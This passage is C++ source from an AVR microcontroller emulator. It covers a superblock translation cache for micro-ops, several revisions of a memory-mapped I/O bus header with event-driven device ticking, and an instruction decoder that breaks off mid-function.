  kStX, kStXInc, kStXDec, kStYInc, kStYDec, kStdY, kStZInc, kStZDec, kStdZ,
  kLpmR0, kLpm, kLpmInc, kElpmR0, kElpm, kElpmInc,
  kPush, kPop,
  // RCALL/CALL with a followed static target: pushes the return address
  // (target2) and falls through — the callee body continues the block.
  kCallPush,
  // Fused pairs: two adjacent pure ops (plain-RAM moves, register ALU)
  // merged by the translator's peephole pass into one dispatch. Chosen
  // from measured pair frequencies in the generated firmware — dominated
  // by 16-bit idioms (lds/lds, add/adc, subi/sbci, asr/ror). A fused op
  // retires two instructions (see TierOp::ins_before) and can never exit
  // mid-op: both halves are side-effect-free against the I/O bus.
  kLds2, kSts2, kLdi2, kLdiAdd, kLdsAdd, kLdsSub, kAddSts, kRorLdi,
  kAddAdc, kAddAdd, kSubSbc, kSubiSbci, kAsrRor, kRorAsr,
  kLdsSts, kStsLds,
  // Conditional mid-block exits: the not-taken path continues inside the
  // block (its 1-cycle cost is folded into the next op's prefix sum); the
  // taken path leaves through the full block-exit sequence.
  kCondBrbs, kCondBrbc,
  kCondCpse, kCondSbrc, kCondSbrs, kCondSbic, kCondSbis,
  // RET whose matching call was followed earlier in the same block: pops
  // and compares against the translate-time return address (target); a
  // match continues in-block (leaf calls inline away), a mismatch leaves
  // through the block exit with the popped destination.
  kCondRet,
  // Terminators (exactly one per block, always the last op).
  kTermIjmp, kTermEijmp,   ///< dynamic target via Z (+EIND)
  kTermIcall, kTermEicall,
  kTermRet, kTermReti,
  kTermBsetI,    ///< SEI — ends the block so the IRQ poll runs right after
  kTermOutSreg,  ///< OUT 0x3F — wholesale SREG write, same reason
  kTermFall,     ///< pseudo-exit: size cap or untranslatable next op
};

inline constexpr auto kFirstTerminator =
    static_cast<std::uint8_t>(TierOpKind::kTermIjmp);
inline constexpr std::size_t kTierOpKinds =
    static_cast<std::size_t>(TierOpKind::kTermFall) + 1;

/// One pre-resolved micro-op. `pc_abs`/`cyc_before` give the exact
/// architectural PC and cycle count at this op's boundary, so a side
/// exit can hand the untouched instruction to the interpreter.
struct TierOp {
  TierOpKind kind = TierOpKind::kNop;
  std::uint8_t a = 0;        ///< destination register / primary operand
  std::uint8_t b = 0;        ///< source register or bit index
  std::uint8_t cyc = 0;      ///< terminator taken-path cycles
  std::uint16_t k = 0;       ///< immediate / absolute data-space address
  std::uint16_t ins_before = 0;  ///< instructions retired by earlier ops
  std::uint32_t pc_abs = 0;  ///< word address of the source instruction
  std::uint32_t cyc_before = 0;  ///< cycles retired by earlier ops in block
  std::uint32_t target = 0;      ///< taken/static target (pre-masked words)
  std::uint32_t target2 = 0;     ///< fall-through / pushed return address
};

struct TierBlock {
  std::uint32_t first_op = 0;  ///< index into SuperblockCache::arena
  std::uint32_t num_ops = 0;   ///< including the terminator
  std::uint32_t head_pc = 0;
  std::uint32_t worst_cycles = 0;  ///< upper bound incl. taken terminator
  bool interp_only = false;  ///< head untranslatable: single-step instead
};

/// Counters for the bench layer and the invalidation regression tests.
struct TierStats {
  std::uint64_t blocks_translated = 0;
  std::uint64_t invalidations = 0;   ///< epoch bumps from reflash
  std::uint64_t blocks_executed = 0;
  std::uint64_t block_instructions = 0;  ///< retired inside superblocks
  std::uint64_t side_exits = 0;
  std::uint64_t io_dispatches = 0;  ///< device-handled accesses run in-tier
  std::uint64_t self_loops = 0;  ///< same-block re-entries w/o a lookup
  std::uint64_t interp_steps = 0;  ///< cycle-exact single-step fallbacks
  std::uint64_t fused_pairs = 0;  ///< pair macro-ops emitted by the peephole
};

/// Translation cache: one map slot per flash word holding an epoch-tagged
/// block index. Stale epochs read as "not translated", so invalidation
/// never walks the map.
class SuperblockCache {
 public:
  /// Sizes the map on first use and invalidates when the flash generation
  /// moved (any bootloader erase/program since the last run) or a new I/O
  /// handler was registered (translation resolves the dispatch map
  /// statically, so a later registration must retranslate).
  void sync(const ProgramMemory& flash, std::uint64_t io_handler_gen) {
    if (map.empty()) map.assign(flash.size_words(), 0);
    if (generation != flash.generation() ||
        handler_generation != io_handler_gen) {
      if (generation != flash.generation() && !blocks.empty()) {
        ++stats.invalidations;
      }
      generation = flash.generation();
      handler_generation = io_handler_gen;
      if (!blocks.empty()) {
        blocks.clear();
        arena.clear();
      }
      ++epoch;
    }
  }

  const TierBlock* find(std::uint32_t head_pc) const {
    const std::uint64_t slot = map[head_pc];
    if ((slot >> 32) != epoch) return nullptr;
    return &blocks[static_cast<std::uint32_t>(slot)];
  }

  /// Translates the superblock headed at `head_pc` and registers it in the
  /// map. `dispatch` is the I/O bus dispatch-flag map, resolved statically
  /// (sync() invalidates on any later handler registration). Returns a
  /// reference valid until the next translate()/sync().
  const TierBlock& translate(const ProgramMemory& flash,
                             const std::uint8_t* dispatch,
                             std::uint32_t head_pc, std::uint32_t pc_mask,
                             std::uint32_t data_size,
                             std::uint8_t push_bytes);

  std::vector<TierOp> arena;
  std::vector<TierBlock> blocks;
  std::vector<std::uint64_t> map;
  std::uint64_t epoch = 1;
  std::uint64_t generation = ~std::uint64_t{0};
  std::uint64_t handler_generation = ~std::uint64_t{0};
  TierStats stats;
};

}  // namespace mavr::avr
