// Memory-mapped I/O dispatch for the simulated AVR.
//
// Devices (UART, SPI, GPIO, timer) register read/write handlers for
// data-space addresses in the I/O region; everything else behaves as plain
// RAM. Devices advance with CPU time through tick().
#pragma once

#include <cstdint>
#include <functional>
#include <unordered_map>
#include <vector>

#include "avr/mcu.hpp"
#include "support/error.hpp"

namespace mavr::avr {

/// Interface for peripherals that need to observe simulated time.
class Tickable {
 public:
  virtual ~Tickable() = default;

  /// Called with the new absolute cycle count after each CPU step.
  virtual void tick(std::uint64_t now_cycles) = 0;
};

/// Address-dispatched I/O: maps data-space addresses to device handlers.
class IoBus {
 public:
  using ReadFn = std::function<std::uint8_t()>;
  using WriteFn = std::function<void(std::uint8_t)>;

  /// Registers a read handler for data-space address `addr`.
  void on_read(std::uint16_t addr, ReadFn fn) {
    MAVR_REQUIRE(!reads_.contains(addr), "duplicate I/O read handler");
    reads_.emplace(addr, std::move(fn));
  }

  /// Registers a write handler for data-space address `addr`.
  void on_write(std::uint16_t addr, WriteFn fn) {
    MAVR_REQUIRE(!writes_.contains(addr), "duplicate I/O write handler");
    writes_.emplace(addr, std::move(fn));
  }

  /// Registers a device for time advancement.
  void add_tickable(Tickable* device) { tickables_.push_back(device); }

  /// True when a device handles reads at `addr`.
  bool handles_read(std::uint32_t addr) const {
    return addr < kExtIoEnd && reads_.contains(static_cast<std::uint16_t>(addr));
  }

  /// True when a device handles writes at `addr`.
  bool handles_write(std::uint32_t addr) const {
    return addr < kExtIoEnd && writes_.contains(static_cast<std::uint16_t>(addr));
  }

  std::uint8_t read(std::uint32_t addr) const {
    return reads_.at(static_cast<std::uint16_t>(addr))();
  }

  void write(std::uint32_t addr, std::uint8_t value) const {
    writes_.at(static_cast<std::uint16_t>(addr))(value);
  }

  /// Advances every registered device to `now_cycles`.
  void tick(std::uint64_t now_cycles) {
    for (Tickable* device : tickables_) device->tick(now_cycles);
  }

 private:
  std::unordered_map<std::uint16_t, ReadFn> reads_;
  std::unordered_map<std::uint16_t, WriteFn> writes_;
  std::vector<Tickable*> tickables_;
};

}  // namespace mavr::avr
