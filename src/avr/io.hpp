// Memory-mapped I/O dispatch for the simulated AVR.
//
// Devices (UART, SPI, GPIO, timer) register read/write handlers for
// data-space addresses in the I/O region; everything else behaves as plain
// RAM. Dispatch is dense-table based: one handler slot per address in
// [0, kExtIoEnd) plus a byte map of dispatch flags, so the interpreter's
// RAM fast path costs a single indexed test and the device path a single
// indirect call (no hashing, no double lookup).
//
// Peripheral time advances event-driven rather than per instruction: the
// bus caches the earliest `next_event_cycles()` deadline across registered
// Tickables and the CPU dispatches tick() only when its cycle counter
// crosses that deadline. Devices that merely need to know "what time is
// it" (UART pacing, output-port timestamps) read the bus clock, which the
// CPU publishes with one store per retired instruction — the same value
// the old per-instruction tick() broadcast delivered.
#pragma once

#include <cstdint>
#include <vector>

#include "avr/mcu.hpp"
#include "support/error.hpp"

namespace mavr::avr {

/// Deadline value meaning "this device never needs an unsolicited tick".
inline constexpr std::uint64_t kNoDeadline = ~std::uint64_t{0};

/// Interface for peripherals that need to observe simulated time.
class Tickable {
 public:
  virtual ~Tickable() = default;

  /// Called with the new absolute cycle count whenever the CPU crosses the
  /// device's reported deadline (and on every explicit IoBus::tick()).
  virtual void tick(std::uint64_t now_cycles) = 0;

  /// Absolute cycle at which this device next changes state on its own
  /// (timer compare match, ...). The bus re-queries this after every
  /// dispatched tick; kNoDeadline opts out of unsolicited ticks entirely.
  virtual std::uint64_t next_event_cycles() const { return kNoDeadline; }
};

/// Address-dispatched I/O: maps data-space addresses to device handlers.
///
/// Handlers are plain function pointers with a context argument rather
/// than std::function — dispatched accesses sit on the interpreter's and
/// the superblock tier's hottest path, and the extra trampoline
/// indirection of a type-erased callable is measurable there.
class IoBus {
 public:
  using ReadFn = std::uint8_t (*)(void*);
  using WriteFn = void (*)(void*, std::uint8_t);

  /// Bits in the per-address dispatch map.
  static constexpr std::uint8_t kHandlesRead = 0x01;
  static constexpr std::uint8_t kHandlesWrite = 0x02;

  IoBus()
      : reads_(kExtIoEnd),
        writes_(kExtIoEnd),
        dispatch_(kExtIoEnd, 0),
        latch_shadow_(kExtIoEnd, 0),
        latched_(kExtIoEnd, 0) {}

  /// Registers a read handler for data-space address `addr`. The address
  /// must fall inside the memory-mapped I/O region — a handler above
  /// kExtIoEnd would be unreachable through load/store dispatch.
  void on_read(std::uint16_t addr, ReadFn fn, void* ctx) {
    MAVR_REQUIRE(addr < kExtIoEnd, "I/O read handler outside the I/O region");
    MAVR_REQUIRE(!(dispatch_[addr] & kHandlesRead) && !latched_[addr],
                 "duplicate I/O read handler");
    reads_[addr] = Handler<ReadFn>{fn, ctx};
    dispatch_[addr] |= kHandlesRead;
    ++handler_gen_;
  }

  /// Registers a write handler for data-space address `addr`.
  void on_write(std::uint16_t addr, WriteFn fn, void* ctx) {
    MAVR_REQUIRE(addr < kExtIoEnd, "I/O write handler outside the I/O region");
    MAVR_REQUIRE(!(dispatch_[addr] & kHandlesWrite),
                 "duplicate I/O write handler");
    writes_[addr] = Handler<WriteFn>{fn, ctx};
    dispatch_[addr] |= kHandlesWrite;
    ++handler_gen_;
  }

  // --- Latched (RAM-backed) registers ---------------------------------------
  /// A register whose reads are pure — a byte the device latches and the
  /// firmware merely observes (sensor inputs, port readback) — skips read
  /// dispatch entirely: the device keeps the byte directly in CPU data
  /// RAM via poke(), and firmware loads take the plain-RAM path. The bus
  /// shadows every poke so latched values survive a CPU reset (which
  /// clears data RAM), matching the device-side members they replace.
  ///
  /// A firmware *store* to a latched address lands in RAM like any
  /// unhandled store and is visible to subsequent loads until the next
  /// poke; no modelled device shares an address between a firmware output
  /// and a latched input, so this is unobservable in practice.
  void bind_backing(std::uint8_t* ram) { backing_ = ram; }

  /// Claims `addr` as a latched register (same uniqueness rules as a read
  /// handler — the two are mutually exclusive per address).
  void make_latched(std::uint16_t addr) {
    MAVR_REQUIRE(addr < kExtIoEnd, "latched register outside the I/O region");
    MAVR_REQUIRE(!(dispatch_[addr] & kHandlesRead) && !latched_[addr],
                 "duplicate I/O read handler");
    MAVR_REQUIRE(backing_ != nullptr, "latched register before bind_backing");
    latched_[addr] = 1;
    latch_addrs_.push_back(addr);
  }

  /// Device-side write of a latched register.
  void poke(std::uint16_t addr, std::uint8_t value) {
    backing_[addr] = value;
    latch_shadow_[addr] = value;
  }

  /// Device-side read-back of a latched register.
  std::uint8_t peek(std::uint16_t addr) const { return backing_[addr]; }

  /// Re-seeds latched registers into freshly cleared data RAM. Called by
  /// the CPU at the tail of reset().
  void restore_latches() {
    for (const std::uint16_t addr : latch_addrs_) {
      backing_[addr] = latch_shadow_[addr];
    }
  }

  /// Registers a device for time advancement.
  void add_tickable(Tickable* device) {
    tickables_.push_back(device);
    refresh_deadline();
  }

  /// True when a device handles reads at `addr` (single table lookup).
  bool handles_read(std::uint32_t addr) const {
    return addr < kExtIoEnd && (dispatch_[addr] & kHandlesRead) != 0;
  }

  /// True when a device handles writes at `addr`.
  bool handles_write(std::uint32_t addr) const {
    return addr < kExtIoEnd && (dispatch_[addr] & kHandlesWrite) != 0;
  }

  /// Dispatches a device read. Precondition: handles_read(addr).
  std::uint8_t read(std::uint32_t addr) const {
    const Handler<ReadFn>& h = reads_[addr];
    return h.fn(h.ctx);
  }

  /// Dispatches a device write. Precondition: handles_write(addr).
  void write(std::uint32_t addr, std::uint8_t value) const {
    const Handler<WriteFn>& h = writes_[addr];
    h.fn(h.ctx, value);
  }

  /// Per-address dispatch-flag map over [0, kExtIoEnd) — the single
  /// indexed test DataMemory::load/store consult on the hot path.
  const std::uint8_t* dispatch_map() const { return dispatch_.data(); }

  /// Bumped on every handler registration. The superblock translator
  /// resolves the dispatch map statically; its cache keys translations to
  /// this value so a late registration forces retranslation.
  std::uint64_t handler_generation() const { return handler_gen_; }

  // --- Interrupt hint --------------------------------------------------------
  /// Raised by devices when an interrupt condition goes pending. The CPU
  /// only walks its interrupt lines (type-erased callbacks) while the hint
  /// is up, clearing it after a poll finds nothing pending — so quiescent
  /// stretches cost one byte test per instruction instead of an indirect
  /// call. step()/run() entry re-raises the hint, so pending state flipped
  /// from outside the simulation loop is still noticed.
  void raise_irq() { irq_hint_ = true; }
  bool irq_hint() const { return irq_hint_; }
  void clear_irq_hint() { irq_hint_ = false; }

  // --- Simulated clock -------------------------------------------------------
  /// Publishes the CPU cycle counter after a retired instruction. Devices
  /// observe this value through now(); it deliberately excludes the cycles
  /// of an in-flight interrupt dispatch, matching the timing the old
  /// per-instruction tick() broadcast exposed.
  void set_now(std::uint64_t now_cycles) { now_ = now_cycles; }

  /// Current simulated time as seen by devices.
  std::uint64_t now() const { return now_; }

  // --- Event-driven ticking --------------------------------------------------
  /// Earliest deadline across registered devices; the CPU compares one
  /// uint64 against this per instruction and dispatches nothing until it
  /// is crossed.
  std::uint64_t next_deadline() const { return deadline_; }

  /// Dispatches tick() to every registered device and re-caches the
  /// earliest deadline. Called by the CPU when now_cycles crosses
  /// next_deadline(), and usable directly as the legacy "advance all
  /// devices" entry point.
  void tick(std::uint64_t now_cycles) {
    now_ = now_cycles;
    for (Tickable* device : tickables_) device->tick(now_cycles);
    refresh_deadline();
  }

 private:
  template <typename Fn>
  struct Handler {
    Fn fn = nullptr;
    void* ctx = nullptr;
  };

  void refresh_deadline() {
    std::uint64_t min = kNoDeadline;
    for (const Tickable* device : tickables_) {
      const std::uint64_t next = device->next_event_cycles();
      if (next < min) min = next;
    }
    deadline_ = min;
  }

  std::vector<Handler<ReadFn>> reads_;
  std::vector<Handler<WriteFn>> writes_;
  std::vector<std::uint8_t> dispatch_;
  std::vector<std::uint8_t> latch_shadow_;
  std::vector<std::uint8_t> latched_;
  std::vector<std::uint16_t> latch_addrs_;
  std::uint8_t* backing_ = nullptr;
  std::uint64_t handler_gen_ = 0;
  std::vector<Tickable*> tickables_;
  std::uint64_t now_ = 0;
  std::uint64_t deadline_ = kNoDeadline;
  bool irq_hint_ = true;
};

}  // namespace mavr::avr
