// Memory-mapped I/O dispatch for the simulated AVR.
//
// Devices (UART, SPI, GPIO, timer) register read/write handlers for
// data-space addresses in the I/O region; everything else behaves as plain
// RAM. Dispatch is dense-table based: one handler slot per address in
// [0, kExtIoEnd) plus a byte map of dispatch flags, so the interpreter's
// RAM fast path costs a single indexed test and the device path a single
// indirect call (no hashing, no double lookup).
//
// Peripheral time advances event-driven rather than per instruction: the
// bus caches the earliest `next_event_cycles()` deadline across registered
// Tickables and the CPU dispatches tick() only when its cycle counter
// crosses that deadline. Devices that merely need to know "what time is
// it" (UART pacing, output-port timestamps) read the bus clock, which the
// CPU publishes with one store per retired instruction — the same value
// the old per-instruction tick() broadcast delivered.
#pragma once

#include <cstdint>
#include <functional>
#include <vector>

#include "avr/mcu.hpp"
#include "support/error.hpp"

namespace mavr::avr {

/// Deadline value meaning "this device never needs an unsolicited tick".
inline constexpr std::uint64_t kNoDeadline = ~std::uint64_t{0};

/// Interface for peripherals that need to observe simulated time.
class Tickable {
 public:
  virtual ~Tickable() = default;

  /// Called with the new absolute cycle count whenever the CPU crosses the
  /// device's reported deadline (and on every explicit IoBus::tick()).
  virtual void tick(std::uint64_t now_cycles) = 0;

  /// Absolute cycle at which this device next changes state on its own
  /// (timer compare match, ...). The bus re-queries this after every
  /// dispatched tick; kNoDeadline opts out of unsolicited ticks entirely.
  virtual std::uint64_t next_event_cycles() const { return kNoDeadline; }
};

/// Address-dispatched I/O: maps data-space addresses to device handlers.
class IoBus {
 public:
  using ReadFn = std::function<std::uint8_t()>;
  using WriteFn = std::function<void(std::uint8_t)>;

  /// Bits in the per-address dispatch map.
  static constexpr std::uint8_t kHandlesRead = 0x01;
  static constexpr std::uint8_t kHandlesWrite = 0x02;

  IoBus() : reads_(kExtIoEnd), writes_(kExtIoEnd), dispatch_(kExtIoEnd, 0) {}

  /// Registers a read handler for data-space address `addr`. The address
  /// must fall inside the memory-mapped I/O region — a handler above
  /// kExtIoEnd would be unreachable through load/store dispatch.
  void on_read(std::uint16_t addr, ReadFn fn) {
    MAVR_REQUIRE(addr < kExtIoEnd, "I/O read handler outside the I/O region");
    MAVR_REQUIRE(!(dispatch_[addr] & kHandlesRead),
                 "duplicate I/O read handler");
    reads_[addr] = std::move(fn);
    dispatch_[addr] |= kHandlesRead;
  }

  /// Registers a write handler for data-space address `addr`.
  void on_write(std::uint16_t addr, WriteFn fn) {
    MAVR_REQUIRE(addr < kExtIoEnd, "I/O write handler outside the I/O region");
    MAVR_REQUIRE(!(dispatch_[addr] & kHandlesWrite),
                 "duplicate I/O write handler");
    writes_[addr] = std::move(fn);
    dispatch_[addr] |= kHandlesWrite;
  }

  /// Registers a device for time advancement.
  void add_tickable(Tickable* device) {
    tickables_.push_back(device);
    refresh_deadline();
  }

  /// True when a device handles reads at `addr` (single table lookup).
  bool handles_read(std::uint32_t addr) const {
    return addr < kExtIoEnd && (dispatch_[addr] & kHandlesRead) != 0;
  }

  /// True when a device handles writes at `addr`.
  bool handles_write(std::uint32_t addr) const {
    return addr < kExtIoEnd && (dispatch_[addr] & kHandlesWrite) != 0;
  }

  /// Dispatches a device read. Precondition: handles_read(addr).
  std::uint8_t read(std::uint32_t addr) const { return reads_[addr](); }

  /// Dispatches a device write. Precondition: handles_write(addr).
  void write(std::uint32_t addr, std::uint8_t value) const {
    writes_[addr](value);
  }

  /// Per-address dispatch-flag map over [0, kExtIoEnd) — the single
  /// indexed test DataMemory::load/store consult on the hot path.
  const std::uint8_t* dispatch_map() const { return dispatch_.data(); }

  // --- Interrupt hint --------------------------------------------------------
  /// Raised by devices when an interrupt condition goes pending. The CPU
  /// only walks its interrupt lines (type-erased callbacks) while the hint
  /// is up, clearing it after a poll finds nothing pending — so quiescent
  /// stretches cost one byte test per instruction instead of an indirect
  /// call. step()/run() entry re-raises the hint, so pending state flipped
  /// from outside the simulation loop is still noticed.
  void raise_irq() { irq_hint_ = true; }
  bool irq_hint() const { return irq_hint_; }
  void clear_irq_hint() { irq_hint_ = false; }

  // --- Simulated clock -------------------------------------------------------
  /// Publishes the CPU cycle counter after a retired instruction. Devices
  /// observe this value through now(); it deliberately excludes the cycles
  /// of an in-flight interrupt dispatch, matching the timing the old
  /// per-instruction tick() broadcast exposed.
  void set_now(std::uint64_t now_cycles) { now_ = now_cycles; }

  /// Current simulated time as seen by devices.
  std::uint64_t now() const { return now_; }

  // --- Event-driven ticking --------------------------------------------------
  /// Earliest deadline across registered devices; the CPU compares one
  /// uint64 against this per instruction and dispatches nothing until it
  /// is crossed.
  std::uint64_t next_deadline() const { return deadline_; }

  /// Dispatches tick() to every registered device and re-caches the
  /// earliest deadline. Called by the CPU when now_cycles crosses
  /// next_deadline(), and usable directly as the legacy "advance all
  /// devices" entry point.
  void tick(std::uint64_t now_cycles) {
    now_ = now_cycles;
    for (Tickable* device : tickables_) device->tick(now_cycles);
    refresh_deadline();
  }

 private:
  void refresh_deadline() {
    std::uint64_t min = kNoDeadline;
    for (const Tickable* device : tickables_) {
      const std::uint64_t next = device->next_event_cycles();
      if (next < min) min = next;
    }
    deadline_ = min;
  }

  std::vector<ReadFn> reads_;
  std::vector<WriteFn> writes_;
  std::vector<std::uint8_t> dispatch_;
  std::vector<Tickable*> tickables_;
  std::uint64_t now_ = 0;
  std::uint64_t deadline_ = kNoDeadline;
  bool irq_hint_ = true;
};

}  // namespace mavr::avr
