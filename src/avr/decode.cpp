#include "avr/decode.hpp"

namespace mavr::avr {

namespace {

// Sign-extends the low `bits` bits of `value`.
std::int32_t sign_extend(std::uint32_t value, unsigned bits) {
  const std::uint32_t mask = 1u << (bits - 1);
  return static_cast<std::int32_t>((value ^ mask)) - static_cast<std::int32_t>(mask);
}

std::uint8_t field_d5(std::uint16_t w) {
  return static_cast<std::uint8_t>((w >> 4) & 0x1F);
}

std::uint8_t field_r5(std::uint16_t w) {
  return static_cast<std::uint8_t>(((w >> 5) & 0x10) | (w & 0x0F));
}

// Immediate-class instructions use r16..r31 encoded in 4 bits.
std::uint8_t field_d4_hi(std::uint16_t w) {
  return static_cast<std::uint8_t>(16 + ((w >> 4) & 0x0F));
}

std::uint16_t field_k8(std::uint16_t w) {
  return static_cast<std::uint16_t>(((w >> 4) & 0xF0) | (w & 0x0F));
}

Instr two_reg(Op op, std::uint16_t w) {
  Instr in;
  in.op = op;
  in.rd = field_d5(w);
  in.rr = field_r5(w);
  return in;
}

Instr imm_reg(Op op, std::uint16_t w) {
  Instr in;
  in.op = op;
  in.rd = field_d4_hi(w);
  in.k = field_k8(w);
  return in;
}

Instr one_reg(Op op, std::uint16_t w) {
  Instr in;
  in.op = op;
  in.rd = field_d5(w);
  return in;
}

// Decodes the 1001 000x / 1001 001x (load/store single register) group.
Instr decode_ldst(std::uint16_t w, std::uint16_t second) {
  const bool store = (w & 0x0200) != 0;
  const std::uint8_t reg = field_d5(w);
  const std::uint8_t mode = static_cast<std::uint8_t>(w & 0x0F);
  Instr in;
  in.rd = reg;
  switch (mode) {
    case 0x0:  // LDS / STS with 16-bit address
      in.op = store ? Op::Sts : Op::Lds;
      in.k = second;
      in.size_words = 2;
      return in;
    case 0x1: in.op = store ? Op::StZInc : Op::LdZInc; return in;
    case 0x2: in.op = store ? Op::StZDec : Op::LdZDec; return in;
    case 0x4:
      if (store) break;
      in.op = Op::Lpm;
      return in;
    case 0x5:
      if (store) break;
      in.op = Op::LpmInc;
      return in;
    case 0x6:
      if (store) break;
      in.op = Op::Elpm;
      return in;
    case 0x7:
      if (store) break;
      in.op = Op::ElpmInc;
      return in;
    case 0x9: in.op = store ? Op::StYInc : Op::LdYInc; return in;
    case 0xA: in.op = store ? Op::StYDec : Op::LdYDec; return in;
    case 0xC: in.op = store ? Op::StX : Op::LdX; return in;
    case 0xD: in.op = store ? Op::StXInc : Op::LdXInc; return in;
    case 0xE: in.op = store ? Op::StXDec : Op::LdXDec; return in;
    case 0xF: in.op = store ? Op::Push : Op::Pop; return in;
    default: break;
  }
  return Instr{};  // Invalid
}

// Decodes the 1001 010x miscellaneous group (one-operand ALU, jumps, ret...).
Instr decode_misc(std::uint16_t w, std::uint16_t second) {
  Instr in;
  // JMP: 1001 010k kkkk 110k + k16 ; CALL: 1001 010k kkkk 111k + k16
  if ((w & 0xFE0E) == 0x940C || (w & 0xFE0E) == 0x940E) {
    const std::uint32_t hi =
        (static_cast<std::uint32_t>((w >> 4) & 0x1F) << 1) | (w & 1);
    in.op = ((w & 0x000E) == 0x000C) ? Op::Jmp : Op::Call;
    in.target = static_cast<std::int32_t>((hi << 16) | second);
    in.size_words = 2;
    return in;
  }
  // One-operand ALU: 1001 010d dddd 0xxx and dddd 1010 (DEC)
  switch (w & 0xFE0F) {
    case 0x9400: return one_reg(Op::Com, w);
    case 0x9401: return one_reg(Op::Neg, w);
    case 0x9402: return one_reg(Op::Swap, w);
    case 0x9403: return one_reg(Op::Inc, w);
    case 0x9405: return one_reg(Op::Asr, w);
    case 0x9406: return one_reg(Op::Lsr, w);
    case 0x9407: return one_reg(Op::Ror, w);
    case 0x940A: return one_reg(Op::Dec, w);
    default: break;
  }
  // BSET/BCLR: 1001 0100 Bsss 1000
  if ((w & 0xFF8F) == 0x9408) {
    in.op = Op::Bset;
    in.bit = static_cast<std::uint8_t>((w >> 4) & 7);
    return in;
  }
  if ((w & 0xFF8F) == 0x9488) {
    in.op = Op::Bclr;
    in.bit = static_cast<std::uint8_t>((w >> 4) & 7);
    return in;
  }
  switch (w) {
    case 0x9409: in.op = Op::Ijmp; return in;
    case 0x9419: in.op = Op::Eijmp; return in;
    case 0x9508: in.op = Op::Ret; return in;
    case 0x9509: in.op = Op::Icall; return in;
    case 0x9518: in.op = Op::Reti; return in;
    case 0x9519: in.op = Op::Eicall; return in;
    case 0x9588: in.op = Op::Sleep; return in;
    case 0x9598: in.op = Op::Break; return in;
    case 0x95A8: in.op = Op::Wdr; return in;
    case 0x95C8: in.op = Op::LpmR0; return in;
    case 0x95D8: in.op = Op::ElpmR0; return in;
    case 0x95E8: in.op = Op::Spm; return in;
    default: break;
  }
  // ADIW: 1001 0110 KKdd KKKK ; SBIW: 1001 0111 KKdd KKKK
  if ((w & 0xFE00) == 0x9600) {
    in.op = (w & 0x0100) ? Op::Sbiw : Op::Adiw;
    in.rd = static_cast<std::uint8_t>(24 + 2 * ((w >> 4) & 3));
    in.k = static_cast<std::uint16_t>(((w >> 2) & 0x30) | (w & 0x0F));
    return in;
  }
  // SBI/CBI/SBIC/SBIS: 1001 10xx AAAA Abbb
  if ((w & 0xFC00) == 0x9800) {
    const std::uint8_t which = static_cast<std::uint8_t>((w >> 8) & 3);
    in.k = static_cast<std::uint16_t>((w >> 3) & 0x1F);
    in.bit = static_cast<std::uint8_t>(w & 7);
    switch (which) {
      case 0: in.op = Op::Cbi; break;
      case 1: in.op = Op::Sbic; break;
      case 2: in.op = Op::Sbi; break;
      case 3: in.op = Op::Sbis; break;
    }
    return in;
  }
  // MUL: 1001 11rd dddd rrrr
  if ((w & 0xFC00) == 0x9C00) return two_reg(Op::Mul, w);
  return Instr{};
}

}  // namespace

bool is_two_word(std::uint16_t w) {
  // LDS/STS: 1001 00xd dddd 0000 ; JMP/CALL: 1001 010k kkkk 11xk.
  if ((w & 0xFC0F) == 0x9000) return true;
  return (w & 0xFE0C) == 0x940C;
}

Instr decode(std::uint16_t w, std::uint16_t second) {
  Instr in;
  switch (w >> 12) {
    case 0x0:
      if (w == 0x0000) {
        in.op = Op::Nop;
        return in;
      }
      if ((w & 0xFF00) == 0x0100) {  // MOVW
        in.op = Op::Movw;
        in.rd = static_cast<std::uint8_t>(((w >> 4) & 0x0F) * 2);
        in.rr = static_cast<std::uint8_t>((w & 0x0F) * 2);
        return in;
      }
      if ((w & 0xFC00) == 0x0400) return two_reg(Op::Cpc, w);
      if ((w & 0xFC00) == 0x0800) return two_reg(Op::Sbc, w);
      if ((w & 0xFC00) == 0x0C00) return two_reg(Op::Add, w);
      return Instr{};
    case 0x1:
      if ((w & 0xFC00) == 0x1000) return two_reg(Op::Cpse, w);
      if ((w & 0xFC00) == 0x1400) return two_reg(Op::Cp, w);
      if ((w & 0xFC00) == 0x1800) return two_reg(Op::Sub, w);
      return two_reg(Op::Adc, w);
    case 0x2:
      if ((w & 0xFC00) == 0x2000) return two_reg(Op::And, w);
      if ((w & 0xFC00) == 0x2400) return two_reg(Op::Eor, w);
      if ((w & 0xFC00) == 0x2800) return two_reg(Op::Or, w);
      return two_reg(Op::Mov, w);
    case 0x3: return imm_reg(Op::Cpi, w);
    case 0x4: return imm_reg(Op::Sbci, w);
    case 0x5: return imm_reg(Op::Subi, w);
    case 0x6: return imm_reg(Op::Ori, w);
    case 0x7: return imm_reg(Op::Andi, w);
    case 0x8:
    case 0xA: {
      // LDD/STD with displacement: 10q0 qqsd dddd yqqq
      const bool store = (w & 0x0200) != 0;
      const bool use_y = (w & 0x0008) != 0;
      const std::uint16_t q = static_cast<std::uint16_t>(
          ((w >> 8) & 0x20) | ((w >> 7) & 0x18) | (w & 0x07));
      in.rd = field_d5(w);
      in.k = q;
      if (store) {
        in.op = use_y ? Op::StdY : Op::StdZ;
      } else {
        in.op = use_y ? Op::LddY : Op::LddZ;
      }
      return in;
    }
    case 0x9:
      if ((w & 0xFC00) == 0x9000) return decode_ldst(w, second);
      return decode_misc(w, second);
    case 0xB: {
      const std::uint8_t a = static_cast<std::uint8_t>(((w >> 5) & 0x30) | (w & 0x0F));
      in.rd = field_d5(w);
      in.k = a;
      in.op = (w & 0x0800) ? Op::Out : Op::In;
      return in;
    }
    case 0xC:
      in.op = Op::Rjmp;
      in.target = sign_extend(w & 0x0FFF, 12);
      return in;
    case 0xD:
      in.op = Op::Rcall;
      in.target = sign_extend(w & 0x0FFF, 12);
      return in;
    case 0xE:
      return imm_reg(Op::Ldi, w);
    case 0xF:
      if ((w & 0xF800) == 0xF000) {  // BRBS/BRBC
        in.op = (w & 0x0400) ? Op::Brbc : Op::Brbs;
        in.bit = static_cast<std::uint8_t>(w & 7);
        in.target = sign_extend((w >> 3) & 0x7F, 7);
        return in;
      }
      if ((w & 0xFE08) == 0xF800) {  // BLD
        in.op = Op::Bld;
        in.rd = field_d5(w);
        in.bit = static_cast<std::uint8_t>(w & 7);
        return in;
      }
      if ((w & 0xFE08) == 0xFA00) {  // BST
        in.op = Op::Bst;
        in.rd = field_d5(w);
        in.bit = static_cast<std::uint8_t>(w & 7);
        return in;
      }
      if ((w & 0xFE08) == 0xFC00) {  // SBRC
        in.op = Op::Sbrc;
        in.rd = field_d5(w);
